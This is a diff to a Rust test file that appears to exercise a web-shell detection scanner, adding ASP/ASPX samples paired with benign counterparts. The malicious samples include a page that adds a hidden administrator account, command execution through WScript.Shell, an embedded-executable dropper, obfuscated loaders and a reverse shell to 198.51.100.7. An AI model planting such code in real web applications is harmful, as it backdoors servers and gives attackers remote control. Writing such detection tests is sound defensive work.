@@ -277,6 +277,41 @@ fn cases() -> Vec<Case> {
             "<%\nOn Error Resume Next\nSet up = Server.CreateObject(\"Persits.Upload\")\nup.Save Server.MapPath(\"uploads\")\nSet mail = Server.CreateObject(\"Persits.MailSender\")\nmail.Host = \"smtp.example.org\"\n%>\n",
         ),
         case(
+            "EXRAY_Windows_Account_Tamper",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.DirectoryServices.AccountManagement\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var ctx = new PrincipalContext(ContextType.Machine);\n var u = new UserPrincipal(ctx, \"svc_backup\", \"Winter2021!\", true); u.Save();\n var g = GroupPrincipal.FindByIdentity(ctx, \"Administrators\");\n g.Members.Add(u); g.Save();\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.DirectoryServices.AccountManagement\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var ctx = new PrincipalContext(ContextType.Domain);\n var me = UserPrincipal.FindByIdentity(ctx, User.Identity.Name);\n name.Text = me.DisplayName;\n}\n</script>\n",
+        ),
+        case(
+            "EXRAY_ADSI_Local_Enumeration",
+            "<%\nSet box = GetObject(\"WinNT://.\")\nFor Each o In box\n If o.Class = \"User\" Then Response.Write o.Name & \"<br>\"\nNext\n%>\n",
+            "<%\nSet who = GetObject(\"LDAP://CN=Users,DC=corp,DC=example\")\nResponse.Write who.Name\n%>\n",
+        ),
+        case(
+            "EXRAY_Reserved_Device_Name_Page",
+            "<%\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nt = \"\\\\.\\c:\\inetpub\\wwwroot\\aux.sys.asp\"\nfs.GetFile(t).Attributes = 0\nfs.DeleteFile t\n%>\n",
+            "<%\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nt = \"c:\\inetpub\\wwwroot\\old\\aux_report.asp\"\nfs.DeleteFile t\n%>\n",
+        ),
+        case(
+            "EXRAY_Include_Of_Non_Script_File",
+            "<!--#include file=\"banner2.txt\"-->\n",
+            "<!--#include file=\"conn.asp\"-->\n",
+        ),
+        case(
+            "EXRAY_ASP_Command_Output_Page",
+            "<%\nSet sh = CreateObject(\"WScript.Shell\")\nSet job = sh.Exec(\"ipconfig /all\")\nResponse.Write job.StdOut.ReadAll()\n%>\n",
+            "<%\nSet sh = CreateObject(\"WScript.Shell\")\nv = sh.ExpandEnvironmentStrings(\"%COMPUTERNAME%\")\nResponse.Write Server.HTMLEncode(v)\n%>\n",
+        ),
+        case(
+            "EXRAY_NET_Unicode_Escaped_Code",
+            "<%@ Page Language=\"C#\" %>\n<% if (\\u0052\\u0065\\u0071\\u0075\\u0065\\u0073\\u0074[\"k\"] != null) { \\u0053\\u0065\\u0073\\u0073\\u0069\\u006f\\u006e.Add(\"k\", 1); } %>\n",
+            "<%@ Page Language=\"C#\" %>\n<% string title = \"Caf\\u00e9 \\u00e0 la carte\"; Response.Write(title); %>\n",
+        ),
+        case(
+            "EXRAY_Page_Embedded_Executable",
+            "<%@ Page Language=\"C#\" %>\n<% string exe = \"4D5A90000300000004000000FFFF0000B8000000\"; System.IO.File.WriteAllBytes(Server.MapPath(\"t.exe\"), Hex(exe)); %>\n",
+            "<%@ Page Language=\"C#\" %>\n<% string logo = \"89504E470D0A1A0A0000000D49484452\"; Response.BinaryWrite(Hex(logo)); %>\n",
+        ),
+        case(
             "EXRAY_SQL_Console_Request",
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Run(object o, EventArgs e) {\n using (var c = new System.Data.SqlClient.SqlConnection(txtConn.Text)) {\n  c.Open();\n  var cmd = new System.Data.SqlClient.SqlCommand(txtSql.Text, c);\n  grid.DataSource = cmd.ExecuteReader(); grid.DataBind();\n }\n}\n</script>\n",
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Load(object o, EventArgs e) {\n using (var c = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString)) {\n  c.Open();\n  var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT Title FROM Posts WHERE Id = @id\", c);\n  cmd.Parameters.AddWithValue(\"@id\", Request[\"id\"]);\n }\n}\n</script>\n",
@@ -576,6 +611,21 @@ fn obfuscated_one_liner_variants() {
     // An in-memory loader whose type and method names are spelled a character at a time.
     let spelled = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) {\n var b = c.Request.BinaryRead(c.Request.ContentLength);\n var t = Type.GetType(new string(new char[] {'S','y','s','t','e','m','.','R','e','f','l','e','c','t','i','o','n','.','A','s','s','e','m','b','l','y'}));\n var m = t.GetMethod(new string(new char[] {'L','o','a','d'}), new Type[] { typeof(byte[]) });\n var a = m.Invoke(null, new object[] { b });\n} public bool IsReusable { get { return false; } } }";
     assert!(hits(spelled).contains("EXRAY_NET_Reflective_Loader_Request"));
+    // A reverse shell that builds its Process by hand.
+    let rev = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var c = new System.Net.Sockets.TcpClient(\"198.51.100.7\", 443);\n var p = new Process();\n p.StartInfo.FileName = \"cmd.exe\";\n p.StartInfo.RedirectStandardInput = true;\n p.Start();\n}\n</script>";
+    assert!(hits(rev).contains("EXRAY_NET_Reverse_Shell"));
+    // A stylesheet from a text box, script enabled for it.
+    let xslt = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Run(object o, EventArgs e) {\n var x = new XmlDocument(); x.LoadXml(Encoding.UTF8.GetString(Convert.FromBase64String(box.Text)));\n var s = new XsltSettings(false, true);\n var t = new XslCompiledTransform(); t.Load(x, s, new XmlUrlResolver());\n}\n</script>";
+    assert!(hits(xslt).contains("EXRAY_XSLT_Script_Exec"));
+    // An upload saved into a folder typed into a text box.
+    let folder = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Up(object o, EventArgs e) { if (f.HasFile) f.SaveAs(dirBox.Text + \"\\\\\" + System.IO.Path.GetFileName(f.FileName)); }\n</script>";
+    assert!(hits(folder).contains("EXRAY_Upload_Request_Named"));
+    // A database console whose server, database and SQL come from text boxes through variables.
+    let boxes_sql = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Dump(object o, EventArgs e) {\n string host = txtHost.Text;\n string sql = txtSql.Text;\n string cs = \"server=\" + host + \";uid=sa\";\n var c = new SqlConnection(cs);\n var a = new SqlDataAdapter(new SqlCommand(sql, c));\n a.Fill(table);\n}\n</script>";
+    assert!(hits(boxes_sql).contains("EXRAY_SQL_Console_Request_Variables"));
+    // Script-encoded VBScript in a UTF-16 page.
+    let enc = "UTF16:<%@ LANGUAGE = VBScript.Encode %>\r\n<%#@~^CAAAAA==v+.s6E^3uHgAAAA==^#~@%>";
+    assert!(hits(enc).contains("EXRAY_ASP_Script_Encoded"));
     // A handler that writes a server-side include into a page it creates.
     let inc = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) {\n var w = File.CreateText(c.Server.MapPath(\"status.aspx\"));\n w.Write(\"<!--#include file=\\\"notes.txt\\\" -->\");\n w.Close(); } public bool IsReusable { get { return false; } } }";
     assert!(hits(inc).contains("EXRAY_Dropper_Embedded_Page"));
